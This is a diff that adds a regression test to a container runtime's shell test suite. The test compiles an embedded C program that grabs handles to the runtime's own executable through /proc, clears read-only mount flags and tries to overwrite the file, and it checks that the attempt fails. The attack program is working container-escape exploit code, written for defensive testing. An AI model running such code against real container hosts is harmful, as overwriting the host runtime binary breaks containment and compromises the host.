@@ -399,3 +399,104 @@ root_test_rt_our_program_is_out_of_reach() {
 	is "$(sha256sum <"$RT")" "$sum" "our program"
 	rt delete --force c
 }
+
+# As above, with every capability in a user namespace whose root owns the program's file.
+#: noasan
+test_rt_our_program_is_out_of_reach_of_its_owner() {
+	command -v gcc >/dev/null || skip "no compiler"
+	cat >attack.c <<'END'
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <linux/mount.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <sys/stat.h>
+#include <sys/mount.h>
+#include <sys/syscall.h>
+#include <time.h>
+#include <unistd.h>
+/* Whatever runs another program than we and busybox: get hold of its file, make its mount
+ * writable, and write to it as soon as nobody executes it any more. */
+static int held[256], n;
+static void free_mount(int fd)
+{
+	struct mount_attr rw = { .attr_clr = MOUNT_ATTR_RDONLY };
+	char path[64];
+
+	syscall(SYS_mount_setattr, fd, "", AT_EMPTY_PATH, &rw, sizeof(rw));
+	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
+	mount(NULL, path, NULL, MS_REMOUNT | MS_BIND, NULL);
+}
+static void hold(int pid, const struct stat *me, const struct stat *busybox)
+{
+	struct stat st;
+	char path[64];
+	int fd, tree;
+
+	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
+	fd = n < 250 ? open(path, O_PATH) : -1;
+	if (fd < 0)
+		return;
+	if (fstat(fd, &st) < 0 || st.st_ino == me->st_ino || st.st_ino == busybox->st_ino) {
+		close(fd);
+		return;
+	}
+	tree = syscall(SYS_open_tree, fd, "", AT_EMPTY_PATH | OPEN_TREE_CLONE);
+	if (tree >= 0)
+		held[n++] = tree;
+	held[n++] = fd;
+}
+int main(int argc, char **argv)
+{
+	time_t start = time(NULL);
+	struct stat me, busybox;
+	int hits = 0, w;
+
+	if (stat(argv[argc - 1], &me) < 0 || stat("/bin/busybox", &busybox) < 0)
+		return 1;
+	while (time(NULL) < start + 4)
+		for (int pid = 2; pid < 3000; pid++)
+			hold(pid, &me, &busybox);
+	while (time(NULL) < start + 8)
+		for (int i = 0; i < n; i++) {
+			char path[64];
+
+			free_mount(held[i]);
+			snprintf(path, sizeof(path), "/proc/self/fd/%d", held[i]);
+			w = open(path, O_WRONLY);
+			hits += w >= 0 && write(w, "overwritten", 11) == 11;
+			close(w);
+		}
+	printf("seen %s, hits %d\n", n ? "yes" : "no", hits);
+	return 0;
+}
+END
+	new_bundle b '.process.args = ["/bin/sleep", "1000"] | .process.noNewPrivileges = false'
+	gcc -static -O1 -o b/rootfs/bin/attack attack.c || skip "no static libc"
+	change b '.process.capabilities = {"bounding": $c, "effective": $c, "permitted": $c}' \
+		--argjson c "$(rt features | jq -c .linux.capabilities)"
+	cp "$RT" own
+	chmod 755 own
+	ln -s /proc/self/exe b/rootfs/bin/self
+	cat >round <<'END'
+./own --root state run -d -b b c
+./own --root state exec -d --pid-file attacker c /bin/attack /bin/attack >found
+end=$((SECONDS + 5))
+while [ $SECONDS -lt $end ]; do
+	./own --root state exec c /bin/self features >/dev/null
+done
+while kill -0 $(cat attacker) 2>/dev/null; do
+	sleep 0.1
+done
+./own --root state delete --force c
+END
+	local sum
+	sum=$(sha256sum <own)
+	# As the user himself, who may not mount, and as root of a namespace, who may.
+	bash round
+	is "$(cat found)" "seen yes, hits 0"
+	change b 'del(.linux.uidMappings, .linux.gidMappings) | .linux.namespaces |= map(select(.type != "user"))'
+	unshare -Urm bash round
+	is "$(cat found)" "seen yes, hits 0"
+	is "$(sha256sum <own)" "$sum" "our program"
+}
